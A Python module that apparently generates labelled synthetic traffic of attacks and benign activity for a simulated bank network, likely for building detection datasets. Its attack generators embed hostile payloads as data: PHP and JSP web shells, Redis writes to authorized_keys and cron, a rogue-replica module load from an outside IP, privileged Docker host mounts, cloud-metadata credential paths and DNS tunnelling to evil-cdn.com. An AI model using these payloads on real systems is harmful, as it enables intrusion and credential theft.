# SPDX-License-Identifier: Apache-2.0
"""What bad people and odd but honest ones do in the estate. Each writes its traffic and tells kind, actors and targets."""
import base64
import json

from estate import SEC, hash_of, new_uuid, wire

BAD_PATHS = ["/.env", "/.git/config", "/phpmyadmin/", "/wp-login.php", "/manager/html", "/solr/admin/cores", "/console", "/backup.zip",
             "/actuator/env", "/druid/index.html", "/server-status", "/config.json", "/admin/login", "/cgi-bin/test.cgi", "/jenkins/script",
             "/swagger-ui.html", "/api/v9/users", "/old/index.php", "/web.config", "/db.sql", "/nacos/v1/cs", "/struts/utils.js"]


def target(e):
    return {e.gw, e.services["auth"][0], e.services["customer"][0]}


def spaced(e, n, least, most, hi=0.6):
    """n times, apart between least and most seconds, within the day."""
    r, gap = e.rng, [e.rng.uniform(least, most) for _ in range(n)]
    room = e.length / SEC * 0.95
    scale = min(1.0, room * 0.9 / max(sum(gap), 1e-9))
    ns = e.start + int(r.uniform(0.05, max(0.06, min(hi, 1 - sum(gap) * scale / room))) * room * SEC)
    out = []
    for g in gap:
        out.append(ns)
        ns += int(g * scale * SEC)
    return out


def accounts(e, n):
    return ["victim%07d" % e.rng.randrange(10**7) for _ in range(n)]


# attacks
def stuffing(e):
    r, ip = e.rng, e.outside()
    n = r.randint(40, 250)
    users, wins = accounts(e, n), r.randint(0, 4)
    good = set(r.sample(range(n), wins))
    pace = r.choice([(0.02, 0.2), (0.3, 1.0), (1.0, 3.0)])
    for i, ns in enumerate(spaced(e, n, *pace)):
        e.try_login(ns, ip, users[i], "pw%06d" % r.randrange(10**6), i in good, agent=r.choice(["python-requests/2.31", None]))
    return "credential_stuffing", {ip}, target(e)


def stuffing_crowd(e):
    r, ips = e.rng, [e.outside() for _ in range(e.rng.randint(40, 160))]
    tries = [ip for ip in ips for _ in range(r.randint(1, 3))]
    r.shuffle(tries)
    span = e.length / SEC * 0.5 if e.dense else r.uniform(600, 3000)
    for ip, ns in zip(tries, spaced(e, len(tries), 0.2 * span / len(tries), 1.8 * span / len(tries))):
        e.try_login(ns, ip, accounts(e, 1)[0], "pw%06d" % r.randrange(10**6), r.random() < 0.02)
    return "credential_stuffing", set(ips), target(e)


def guessing(e):
    r, ip = e.rng, e.outside()
    n, user = r.randint(25, 200), accounts(e, 1)[0]
    pace = r.choice([(0.02, 0.3), (0.5, 3.0), (2.0, 8.0)])
    for i, ns in enumerate(spaced(e, n, *pace)):
        e.try_login(ns, ip, user, "guess%d" % i, i == n - 1 and r.random() < 0.3)
    return "brute_force", {ip}, target(e)


def guessing_crowd(e):
    r, ips, user = e.rng, [e.outside() for _ in range(e.rng.randint(20, 50))], accounts(e, 1)[0]
    for i, ns in enumerate(spaced(e, len(ips) * 3, 0.5, 6)):
        e.try_login(ns, ips[i % len(ips)], user, "guess%d" % i, False)
    return "brute_force", set(ips), target(e)


def spray(e):
    r, ip = e.rng, e.outside()
    users = accounts(e, r.randint(30, 120))
    words = r.sample(["Spring2025!", "123456", "P@ssw0rd", "Aa123456"], r.randint(1, 2))
    pace = r.choice([(1, 4), (8, 16), (15, 40)]) if not e.dense else (1, 6)
    tries = [(u, w) for w in words for u in users]
    for (u, w), ns in zip(tries, spaced(e, len(tries), *pace)):
        e.try_login(ns, ip, u, w, r.random() < 0.01)
    return "password_spray", {ip}, target(e)


def bola(e, in_order):
    r, (user, ip) = e.rng, e.rng.choice(e.users)
    ip = e.outside()
    n, first = r.randint(60, 250), e.ids + r.randrange(10**6)
    pace = r.choice([(0.05, 0.2), (0.5, 2.0), (1.0, 4.0)])
    step = r.choice([1, 1, 1, 2])
    for i, ns in enumerate(spaced(e, n, *pace)):
        num = first + i * step if in_order else e.ids + r.randrange(8 * 10**6)
        e.read(ns, ip, "%sx%d" % (user, first), num, 200 if r.random() < (0.9 if in_order else 0.6) else r.choice([403, 404]))
    return "bola_enumeration", {ip}, target(e)


def bola_query(e):
    """The object's id stands in the query or in the body."""
    r, ip = e.rng, e.outside()
    where = r.choice(["query", "body"])
    name = r.choice(["id", "custId", "userId", "accountNo", "orderId"])
    path = e.base + r.choice(["/customer/detail", "/user/getInfo", "/account/query", "/order/info"])
    n, first = r.randint(60, 200), e.ids + r.randrange(10**6)

    def call(ns, addr, user, num, status):
        answer = json.dumps({"code": 0, "data": e.record(num)} if status == 200 else {"code": 403}, ensure_ascii=False).encode()
        if where == "query":
            e.outer(ns, addr, "GET", "%s?%s=%d&t=%d" % (path, name, num, ns // SEC), e.credential(user), b"", status, answer, service="customer")
        else:
            e.outer(ns, addr, "POST", path, e.credential(user), json.dumps({name: num, "ts": ns // SEC}).encode(), status, answer, service="customer")
    for _ in range(60):
        user, addr = r.choice(e.users)
        call(e.at(), addr, user, e.ids + hash_of(user) % 10**6, 200)
    for i, ns in enumerate(spaced(e, n, 0.2, 2)):
        call(ns, ip, "walker", first + i, 200 if r.random() < 0.9 else 403)
    return "bola_enumeration", {ip}, target(e)


def drag(e):
    r, ip = e.rng, e.outside()
    size, n = r.choice([(500, 8), (200, 20), (1000, 6), (100, 40)])
    names = r.choice([("page", "size"), ("pageNo", "pageSize"), ("offset", "limit")])
    for i, ns in enumerate(spaced(e, n, 0.5, 20)):
        rows = [e.record(10**8 + i * size + k) for k in range(size)]
        answer = json.dumps({"total": size * n, "data": rows}, ensure_ascii=False).encode()
        e.outer(ns, ip, "GET", "%s/%s?%s=%d&%s=%d" % (e.base, e.kind, names[0], i * (size if names[0] == "offset" else 1), names[1], size),
                e.credential("insider"), b"", 200, answer, service="customer")
    return "data_drag", {ip}, target(e)


def scan(e):
    r, ip = e.rng, e.outside()
    agent = r.choice(["Mozilla/5.0 (compatible; Nuclei)", "Mozilla/5.0 (X11; Linux) Firefox/121", "gobuster/3.6", None, "sqlmap/1.7"])
    pace = r.choice([(0.01, 0.05), (0.1, 0.6), (0.5, 2.0)])
    n = r.randint(60, 300)
    for ns in spaced(e, n, *pace):
        path = r.choice(BAD_PATHS)
        if r.random() < 0.6:
            path += r.choice(["%04x" % r.randrange(65536), "/%06x" % r.randrange(1 << 24), ".bak", "?x=%d" % r.randrange(99)])
        e.outer(ns, ip, "GET", path, [], b"", r.choice([404] * 9 + [403]), b"not found", "text/plain", agent=agent)
    return "scanner", {ip}, target(e)


def ports(e):
    r, src = e.rng, e.pod
    shape = r.choice(["down", "across", "both", "slow"])
    hosts = [e.net(r.choice([2, 3, 4]), k) for k in r.sample(range(1, 250), 40)]
    known = r.sample(range(1, 10000), 60)
    if shape == "down":
        pairs = [(hosts[0], p) for p in known]
    elif shape == "across":
        pairs = [(h, 445) for h in hosts]
    else:
        pairs = [(h, p) for h in hosts[:10] for p in known[:r.randint(5, 12)]]
    r.shuffle(pairs)
    pace = (5, 20) if shape == "slow" and not e.dense else (0.005, 0.3)
    refused = r.random()
    for (h, p), ns in zip(pairs, spaced(e, len(pairs), *pace)):
        e.syn(ns, src, h, p, r.random() < refused)
    return "port_scan", {src}, {h for h, _ in pairs}


def beacon(e):
    r, src, dst = e.rng, e.services["pay"][0], e.outside()
    period = r.choice([2, 5, 10]) if e.dense else r.choice([10, 60, 300])
    n = min(r.randint(40, 120), int(e.length / SEC * 0.9 / period))
    jitter, ns = r.choice([0.02, 0.1, 0.2, 0.3]), e.start + int(e.length * 0.04)
    shape = r.choice(["get", "post", "raw", "id"])
    for i in range(n):
        if shape == "get":
            e.http(ns, src, dst, 80, "GET", "/jquery.min.js", [("Host", "cdn.example")], answer=b"x" * r.randint(20, 90), ctype="text/javascript")
        elif shape == "post":
            e.http(ns, src, dst, 8443, "POST", "/submit.php?id=%d" % r.randrange(10**8), body=base64.b64encode(r.randbytes(60)), answer=b"ok")
        elif shape == "id":
            e.http(ns, src, dst, 80, "GET", "/t/%s" % new_uuid(r), answer=b"")
        else:
            e.raw(ns, src, dst, 4444, [(0, r.randbytes(48)), (1, r.randbytes(16))])
        ns += int(period * (1 + r.uniform(-jitter, jitter)) * SEC)
    return "beaconing", {src}, {dst}


def webshell(e):
    r, ip = e.rng, e.outside()
    name = r.choice(["x.jsp", "a.php", "shell.jspx", "up.aspx", "1.php5.php"])
    code = b"<?php @eval($_POST['c']);?>" if "php" in name else b"<%Runtime.getRuntime().exec(request.getParameter(\"c\"));%>"
    folder = r.choice(["/upload/", "/files/", "/static/img/", "/uploads/2025/"])
    times = spaced(e, 6, 1, 12)
    form = (b"--xyz\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: image/png\r\n\r\n%s\r\n--xyz--\r\n"
            % (name.encode(), code))
    e.outer(times[0], ip, "POST", r.choice(["/files/upload", e.base + "/documents", "/common/upload"]), [], form, 200,
            json.dumps({"url": folder + name}).encode())
    for ns, cmd in zip(times[1:], ["whoami", "id", "cat%20/etc/passwd", "ls%20-la", "uname%20-a"]):
        e.outer(ns, ip, "GET", "%s%s?%s=%s" % (folder, name, r.choice("cx"), cmd), [], b"", 200,
                b"uid=0(root) gid=0(root) groups=0(root)\n" if cmd == "id" else b"root\n", "text/html")
    return "webshell", {ip}, target(e)


def shared(e):
    r, ips = e.rng, [e.outside() for _ in range(e.rng.randint(5, 9))]
    own = e.ids + r.randrange(10**6)
    for i, ns in enumerate(spaced(e, len(ips) * r.randint(3, 5), 1, 12)):
        e.read(ns, ips[i % len(ips)], "lent", own)
    return "account_sharing", set(ips), target(e)


def bombing(e):
    r, ip = e.rng, e.outside()
    path = r.choice(["/api/v1/sms/send", "/user/sendVerifyCode", "/otp/send", "/mobile/captcha/sms", "/passport/getSmsCode"])
    key = r.choice(["mobile", "phone", "phoneNumber", "tel"])
    form = r.random() < 0.3
    one = r.random() < 0.4
    for ns in spaced(e, r.randint(30, 150), 0.1, 2):
        phone = "13900001111" if one else "13%09d" % r.randrange(10**9)
        body = "%s=%s&scene=login" % (key, phone) if form else json.dumps({key: phone, "scene": "login"})
        e.outer(ns, ip, "POST", path, [], body.encode(), 200, b'{"code":0,"msg":"ok"}', service="notify")
    return "sms_bombing", {ip}, target(e) | {e.services["notify"][0]}


def codes(e):
    r, ip = e.rng, e.outside()
    path = r.choice(["/api/v1/sms/verify", "/otp/check", "/user/verifyCode/validate", "/login/otp/verify"])
    key = r.choice(["code", "otp", "smsCode", "verifyCode"])
    for i, ns in enumerate(spaced(e, r.randint(30, 200), 0.05, 1.5)):
        e.outer(ns, ip, "POST", path, [], json.dumps({"mobile": "13800002222", key: "%06d" % r.randrange(10**6)}).encode(),
                r.choice([400, 200]), json.dumps({"code": 4003, "msg": r.choice(["验证码错误", "invalid code"])}, ensure_ascii=False).encode(), service="auth")
    return "otp_brute_force", {ip}, target(e)


def registering(e):
    r, ip = e.rng, e.outside()
    path = r.choice(["/api/v1/register", "/user/signup", "/passport/reg", "/accounts/create-account"])
    for i, ns in enumerate(spaced(e, r.randint(30, 120), 0.5, 6)):
        e.outer(ns, ip, "POST", path, [], json.dumps({"username": "bot%08d" % r.randrange(10**8), "password": "Aa1%07d" % r.randrange(10**7),
                                                      "mobile": "17%09d" % r.randrange(10**9)}).encode(), 201, b'{"code":0,"id":%d}' % i, service="auth")
    return "registration_bulk", {ip}, target(e)


def asking(e):
    r, ip = e.rng, e.outside()
    path = r.choice(["/api/v1/users/exists", "/user/checkMobile", "/account/available", "/user/forgot-password"])
    for ns in spaced(e, r.randint(50, 200), 0.1, 3):
        phone, known = "13%09d" % r.randrange(10**9), r.random() < 0.15
        if "forgot" in path:
            e.outer(ns, ip, "POST", path, [], json.dumps({"mobile": phone}).encode(), 200 if known else 404,
                    b'{"code":0}' if known else b'{"code":404,"msg":"user not found"}', service="auth")
        else:
            e.outer(ns, ip, "GET", "%s?mobile=%s" % (path, phone), [], b"", 200, json.dumps({"exists": known}).encode(), service="auth")
    return "account_enumeration", {ip}, target(e)


def edge(e):
    r, src = e.rng, e.gw
    if r.random() < 0.5:
        greeting = b"\x4a\x00\x00\x00\x0a8.0.32\x00" + r.randbytes(70)
        for ns in spaced(e, 3, 5, 30, 0.95)[-3:]:
            e.raw(max(ns, e.start + int(e.length * 0.85)), src, e.db, 3306, [(1, greeting), (0, r.randbytes(120)), (1, r.randbytes(11))])
        return "new_edge", {src}, {e.db}
    ip, port = e.net(7, 20), 8090
    for k in range(4):
        e.http(e.start + int(e.length * 0.85) + k * 3 * SEC, e.services["customer"][0], ip, port, "POST", "/services/Ledger",
               [("Content-Type", "application/json")], b'{"q":1}')
    return "new_edge", {e.services["customer"][0]}, {ip}


def kubelet(e):
    r = e.rng
    for i, ns in enumerate(spaced(e, r.randint(2, 5), 2, 20)):
        e.http(ns, e.pod, e.node, 10250, *r.choice([("POST", "/run/pay/api-%d/app" % i), ("GET", "/pods"), ("POST", "/exec/kube-system/p/c?command=id&output=1"),
                                                    ("GET", "/runningpods/")]), answer=b'{"kind":"PodList","items":[]}')
    return "pod_to_kubelet", {e.pod}, {e.node}


def redis(e):
    cmds = e.rng.choice([[b"config set dir /root/.ssh", b"config set dbfilename authorized_keys", b"save"],
                         [b"CONFIG SET dir /var/spool/cron", b"CONFIG SET dbfilename root", b"BGSAVE"],
                         [b"SLAVEOF 45.9.1.2 6379", b"MODULE LOAD /tmp/exp.so"]])
    talk = []
    for c in cmds:
        parts = c.split(b" ")
        talk += [(0, b"*%d\r\n" % len(parts) + b"".join(b"$%d\r\n%s\r\n" % (len(p), p) for p in parts)), (1, b"+OK\r\n")]
    e.raw(e.at(0.2, 0.9), e.services["pay"][0], e.redis, 6379, talk)
    return "redis_config_abuse", {e.services["pay"][0]}, {e.redis}


def kubernetes(e):
    r = e.rng
    calls = [("GET", "/version"), ("GET", "/api/v1/namespaces"), ("GET", "/api/v1/namespaces/default/secrets"), ("GET", "/api/v1/secrets"),
             ("POST", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"),
             ("POST", "/api/v1/namespaces/default/pods/web-0/exec?command=sh&stdin=true"), ("POST", "/api/v1/namespaces/default/pods")]
    for (m, p), ns in zip(calls, spaced(e, len(calls), 0.3, 4)):
        e.http(ns, e.net(2, 66), e.apiserver, 6443, m, p, body=b'{"kind":"X"}' if m == "POST" else b"", answer=b'{"kind":"List","apiVersion":"v1","items":[]}')
    return "k8s_api", {e.net(2, 66)}, {e.apiserver}


def metadata(e):
    r = e.rng
    ip, paths = r.choice([("169.254.169.254", ["/latest/meta-data/", "/latest/meta-data/iam/security-credentials/", "/latest/meta-data/iam/security-credentials/node"]),
                          ("100.100.100.200", ["/latest/meta-data/", "/latest/meta-data/ram/security-credentials/", "/latest/meta-data/ram/security-credentials/ecs"]),
                          ("169.254.169.254", ["/computeMetadata/v1/instance/service-accounts/default/token"]),
                          ("169.254.0.23", ["/latest/meta-data/cam/security-credentials/node"])])
    for p, ns in zip(paths, spaced(e, len(paths), 0.4, 3)):
        e.http(ns, e.net(2, 67), ip, 80, "GET", p, answer=b"node-role", ctype="text/plain", host=ip)
    return "cloud_metadata", {e.net(2, 67)}, {ip}


def tunnel(e):
    r, src = e.rng, e.net(2, 68)
    alphabet = r.choice(["abcdefghijklmnopqrstuvwxyz234567", "0123456789abcdef"])
    kind, n = r.choice([16, 1, 10]), r.randint(60, 200)
    for i, ns in enumerate(spaced(e, n, 0.1, 1.5)):
        label = "".join(r.choice(alphabet) for _ in range(r.randint(36, 58)))
        answer = b"\x20" + r.randbytes(32) if kind == 16 else bytes([127, 0, 0, 1]) if kind == 1 else r.randbytes(24)
        e.ask(ns, src, "%04x.%s.t.evil-cdn.com" % (i, label), kind, answer)
    return "dns_tunnelling", {src}, {e.dns}


def made_up(e):
    r, src = e.rng, e.net(2, 69)
    for ns in spaced(e, r.randint(50, 150), 0.05, 2):
        e.ask(ns, src, "".join(r.choice("bcdfghjklmnpqrstvwxzaeiou0123456789") for _ in range(r.randint(11, 18))) + r.choice([".com", ".net", ".info"]), 1, None, 3)
    return "dga", {src}, {e.dns}


def image(e):
    r, src = e.rng, e.net(9, 30)
    name = r.choice(["bank/customer", "library/nginx", "pay/api"])
    digest = "sha256:%064x" % r.getrandbits(256)
    mime = "application/vnd.docker.distribution.manifest.v2+json"
    manifest = json.dumps({"schemaVersion": 2, "mediaType": mime, "config": {"digest": "sha256:%064x" % r.getrandbits(256), "size": 900},
                           "layers": [{"digest": "sha256:%064x" % r.getrandbits(256), "size": 10000}]}).encode()
    times = spaced(e, 3, 0.05, 0.5)
    e.http(times[0], src, e.registry, 5000, "GET", "/v2/", answer=b"{}", answer_headers=[("Docker-Distribution-Api-Version", "registry/2.0")])
    for ns, m in zip(times[1:], ("HEAD", "GET")):
        e.http(ns, src, e.registry, 5000, m, "/v2/%s/manifests/%s" % (name, r.choice(["latest", "v1.2"])), answer=b"" if m == "HEAD" else manifest,
               ctype=mime, answer_headers=[("Docker-Content-Digest", digest)])
    return "image_pull_tag", {src}, {e.registry}


def docker(e):
    src, dst = e.net(2, 71), e.net(9, 40)
    body = json.dumps({"Image": "alpine", "Cmd": ["sh"], "HostConfig": {"Binds": ["/:/mnt"], "Privileged": True}}).encode()
    times = spaced(e, 3, 0.5, 4)
    e.http(times[0], src, dst, 2375, "GET", "/v1.41/containers/json", answer=b"[]")
    e.http(times[1], src, dst, 2375, "POST", "/v1.41/containers/create", [("Content-Type", "application/json")], body, 201, b'{"Id":"%064x","Warnings":[]}' % 7)
    e.http(times[2], src, dst, 2375, "POST", "/v1.41/containers/%064x/start" % 7, (), b"", 204, b"")
    return "docker_api", {src}, {dst}


def shell(e):
    r, src, dst = e.rng, e.services["notify"][0], e.outside()
    talk = []
    for cmd in r.sample([b"id\n", b"uname -a\n", b"ls -la /\n", b"cat /etc/passwd\n", b"ps aux\n", b"ip a\n", b"whoami\n"], 6):
        talk += [(1, cmd), (0, bytes(r.choice(b"abcdefgh /.:-\n") for _ in range(r.randint(100, 1200))) + b"$ ")]
    t = wire.Tcp(e.cap, e.at(0.2, 0.8), src, e.port(src), dst, r.choice([4444, 9001, 1337]), isn=5)
    for who, data in talk:
        t.send(who, data)
        t.wait(r.randint(1, 6) * SEC)
    t.close()
    return "reverse_shell", {src}, {dst}


def mining(e):
    r, src, dst = e.rng, e.net(2, 72), e.outside()
    t = wire.Tcp(e.cap, e.at(0.2, 0.8), src, e.port(src), dst, r.choice([3333, 14444, 80]), isn=5)
    t.send(0, r.choice([b'{"id":1,"method":"mining.subscribe","params":["cpuminer/2.5"]}\n',
                        b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"48edf","pass":"x","agent":"XMRig/6.20.0"}}\n']))
    t.send(1, b'{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"a","job":{"blob":"0e0e","job_id":"1","target":"b88d0600"},"status":"OK"}}\n')
    for i in range(5):
        t.wait(4 * SEC)
        t.send(0, b'{"id":%d,"jsonrpc":"2.0","method":"submit","params":{"id":"a","job_id":"1","nonce":"%08x","result":"00"}}\n' % (i + 2, i))
        t.send(1, b'{"id":%d,"jsonrpc":"2.0","error":null,"result":{"status":"OK"}}\n' % (i + 2))
    t.close()
    return "mining_pool", {src}, {dst}


def spread(e):
    r, src = e.rng, e.services["account"][0]
    hosts = [e.net(2, 100 + k) for k in range(r.randint(12, 30))]
    ns = e.start + int(e.length * r.uniform(0.55, 0.75))
    for h in hosts:
        ns += int(r.uniform(1, 8) * SEC)
        e.raw(ns, src, h, 22, [(1, b"SSH-2.0-OpenSSH_8.9\r\n"), (0, b"SSH-2.0-libssh_0.9\r\n"), (0, r.randbytes(300)), (1, r.randbytes(300))])
    return "lateral_spread", {src}, set(hosts)


def bola_slow(e):
    r, ip, first = e.rng, e.outside(), e.ids + e.rng.randrange(10**6)
    for i, ns in enumerate(spaced(e, 50 if e.dense else 120, 10, 20 if e.dense else 60)):
        e.read(ns, ip, "slowpoke", first + i, 200)
    return "bola_enumeration", {ip}, target(e)


def bola_uuid(e):
    r, ip = e.rng, e.outside()
    for ns in spaced(e, 80, 0.3, 2):
        ok = r.random() < 0.2
        e.outer(ns, ip, "GET", "%s/orders/%s" % (e.base, new_uuid(r)), e.credential("guesser"), b"", 200 if ok else 404,
                json.dumps(e.record(5)).encode() if ok else b'{"error":"none"}', service="customer")
    return "bola_enumeration", {ip}, target(e)


def ports_udp(e):
    r, src, dst = e.rng, e.net(2, 73), e.net(3, 9)
    for p, ns in zip(r.sample(range(1, 9000), 60), spaced(e, 60, 0.05, 1)):
        e.cap.udp(ns, src, 40000 + r.randrange(9000), dst, p, b"\0" * 8)
    return "port_scan", {src}, {dst}


def ports_slow(e):
    r, src = e.rng, e.net(2, 74)
    dst = e.net(3, 10)
    for p, ns in zip(r.sample(range(1, 9000), 40), spaced(e, 40, 60, 400)):
        e.syn(ns, src, dst, p, r.random() < .5)
    return "port_scan", {src}, {dst}


def basic_guess(e):
    import base64 as b
    r, ip = e.rng, e.outside()
    for i, ns in enumerate(spaced(e, 60, 0.1, 2)):
        e.outer(ns, ip, "GET", "/manager/status", [("Authorization", "Basic " + b.b64encode(b"admin:pw%d" % i).decode())], b"", 401, b"no", "text/plain")
    return "brute_force", {ip}, target(e)


def otp_login(e):
    r, ip = e.rng, e.outside()
    for i, ns in enumerate(spaced(e, 80, 0.1, 2)):
        e.outer(ns, ip, "POST", "/api/v1/login/sms", [], json.dumps({"mobile": "13811112222", "smsCode": "%06d" % r.randrange(10**6)}).encode(), 200,
                json.dumps({"code": 10086, "msg": "验证码错误"}, ensure_ascii=False).encode(), service="auth")
    return "otp_brute_force", {ip}, target(e)


def spray_all(e):
    """The same few passwords over accounts, from one source, with long pauses between rounds."""
    r, ip, users = e.rng, e.outside(), accounts(e, 40)
    for u, ns in zip(users * 2, spaced(e, 80, 0.2, 1)):
        e.try_login(ns, ip, u, "Winter2025", False)
    return "password_spray", {ip}, target(e)


def stuffing_lucky(e):
    r, ip = e.rng, e.outside()
    for i, ns in enumerate(spaced(e, 80, 0.2, 2)):
        e.try_login(ns, ip, accounts(e, 1)[0], "pw%06d" % r.randrange(10**6), r.random() < 0.25)
    return "credential_stuffing", {ip}, target(e)


def beacon_long(e):
    r, src, dst = e.rng, e.services["notify"][0], e.outside()
    period = 4 if e.dense else 600
    ns = e.start + int(e.length * 0.1)
    for i in range(min(60, int(e.length / SEC * .8 / period))):
        e.http(ns, src, dst, 443, "GET", "/" + new_uuid(r)[:r.randint(4, 8)], [("Host", "cdn.x")], answer=b"", status=r.choice([200, 404]))
        ns += int(period * (1 + r.uniform(-.45, .45)) * SEC)
    return "beaconing", {src}, {dst}


# honest ones
def saas(e):
    """A service that calls an API outside as its users make it."""
    r, src, dst = e.rng, e.services["pay"][0], e.outside()
    for _ in range(80):
        e.http(e.at(), src, dst, 443, "POST", "/v1/charges", body=b'{"amount":1}', answer=b"{}", host="pay.example")
    return "saas", {src}


def poller(e):
    """An app that polls its own object."""
    r, ip = e.rng, e.outside()
    for ns in spaced(e, 200, 2.9, 3.1):
        e.read(ns, ip, "poller", e.ids + 5)
    return "poller", {ip}


def searcher(e):
    """A customer who looks at many of their own transactions, ids far apart."""
    r, ip = e.rng, e.outside()
    for ns in spaced(e, 22, 3, 15):
        e.outer(ns, ip, "GET", "%s/transactions/%d" % (e.base, r.randrange(10**9)), e.credential("owner"), b"", 200, b'{"amount":3}', service="account")
    return "searcher", {ip}


def partner(e):
    """A partner's server that reads many objects steadily with an API key."""
    r, ip = e.rng, e.outside()
    for ns in spaced(e, 150, 1, 6):
        e.outer(ns, ip, "GET", "%s/%s/%s" % (e.base, "policies", e.ids + r.randrange(10**7)), [("X-Api-Key", "pk_live_545f853f622df471b1212c88")], b"", 200,
                b'{"premium":3}', service="account", agent="Java/17")
    return "partner", {ip}


def ansible(e):
    r, src = e.rng, e.net(8, 5)
    hosts = [e.net(2, 130 + k) for k in range(20)]
    for k in range(3):
        ns = e.start + int(e.length * (0.02 + 0.3 * k))
        for h in hosts:
            ns += r.randint(100, 900) * 10**6
            e.raw(ns, src, h, 22, [(1, b"SSH-2.0-OpenSSH_8.9\r\n"), (0, b"SSH-2.0-OpenSSH_9.3\r\n"), (0, r.randbytes(300)), (1, r.randbytes(300))])
    return "ansible", {src}


def office(e):
    r, ip = e.rng, e.outside()
    for ns in spaced(e, r.randint(80, 250), 1, 12 if e.dense else 40):
        user = "office%04d" % r.randrange(3000)
        if r.random() < 0.05:
            e.try_login(ns, ip, user, "typo", False)
            ns += 6 * SEC
        e.try_login(ns, ip, user, "right" + user, True)
        e.read(ns + SEC, ip, user, e.ids + hash_of(user) % 4000000)
    return "office", {ip}


def batch(e):
    r, src = e.rng, e.net(2, 90)
    sip, sport = e.services["customer"]
    for i, ns in enumerate(spaced(e, r.randint(150, 400), 0.05, 0.3)):
        e.http(ns, src, sip, sport, "GET", "/internal/v1/cust/%d" % (100000 + i), host="customer", answer=json.dumps({"level": 1}).encode())
    return "batch", {src}


def forgot(e):
    r, ip, user = e.rng, e.outside(), "forgetful"
    times = spaced(e, r.randint(4, 8), 8, 40)
    for ns in times[:-1]:
        e.try_login(ns, ip, user, "try%d" % (ns % 97), False)
    e.try_login(times[-1], ip, user, "right", True)
    return "forgot", {ip}


def health(e):
    r, src = e.rng, r_choice(e)
    ns, step = e.start, (10 if e.dense else 120) * SEC
    while ns < e.start + e.length:
        e.http(ns, src, e.gw, e.gw_port, "GET", r.choice(["/healthz"]), [("User-Agent", "kube-probe/1.27")], answer=b"ok", ctype="text/plain")
        ns += step
    return "health", {src}


def r_choice(e):
    return e.rng.choice([e.net(1, 2), e.outside()])


def roaming(e):
    r, ips = e.rng, [e.outside() for _ in range(e.rng.randint(2, 3))]
    own, times = e.ids + r.randrange(10**6), spaced(e, 12, 20, 400)
    for i, ns in enumerate(times):
        e.read(ns, ips[i * len(ips) // 12], "traveller", own)
    return "roaming", set(ips)


def teller(e):
    r, src = e.rng, e.net(88, 20 + e.rng.randrange(100))
    n = 30 if e.dense else r.randint(120, 300)
    for ns in spaced(e, n, 25, 240):
        e.read(ns, src, "teller7", e.ids + r.randrange(10**6))
    return "teller", {src}


def shopper(e):
    """Looks through many products quickly: objects of nobody."""
    r, ip = e.rng, e.outside()
    for ns in spaced(e, r.randint(15, 22), 2, 9):
        e.outer(ns, ip, "GET", "%s/products/%d" % (e.base, r.randint(1, 40)), [], b"", 200, b'{"name":"fund","rate":2.1}', service="pay")
    return "shopper", {ip}


def clock(e):
    """Time and updates: even intervals to the outside by the estate's own hosts."""
    r, dst = e.rng, e.outside()
    for i, (sip, _) in enumerate(e.services.values()):
        ns, step = e.start + i * SEC, (16 if e.dense else 1024) * SEC
        while ns < e.start + e.length:
            e.cap.udp(ns, sip, 123, dst, 123, b"\x23" + b"\0" * 47)
            e.cap.udp(ns + 3000000, dst, 123, sip, 123, b"\x24" + b"\0" * 47)
            ns += step
    return "clock", {sip for sip, _ in e.services.values()}


ATTACKS = {"stuffing": stuffing, "stuffing_crowd": stuffing_crowd, "guessing": guessing, "guessing_crowd": guessing_crowd, "spray": spray,
           "bola_order": lambda e: bola(e, True), "bola_random": lambda e: bola(e, False), "bola_query": bola_query, "drag": drag, "scan": scan,
           "ports": ports, "beacon": beacon, "webshell": webshell, "shared": shared, "bombing": bombing, "codes": codes,
           "registering": registering, "asking": asking, "edge": edge, "kubelet": kubelet, "redis": redis, "kubernetes": kubernetes,
           "metadata": metadata, "tunnel": tunnel, "made_up": made_up, "image": image, "docker": docker,
           "shell": shell, "bola_slow": bola_slow, "bola_uuid": bola_uuid, "ports_udp": ports_udp, "ports_slow": ports_slow, "basic_guess": basic_guess, "otp_login": otp_login, "spray_all": spray_all, "stuffing_lucky": stuffing_lucky, "beacon_long": beacon_long, "mining": mining, "spread": spread}
HONEST = {"office": office, "batch": batch, "forgot": forgot, "health": health, "roaming": roaming, "teller": teller, "shopper": shopper,
          "clock": clock, "ansible": ansible, "saas": saas, "poller": poller, "searcher": searcher, "partner": partner}
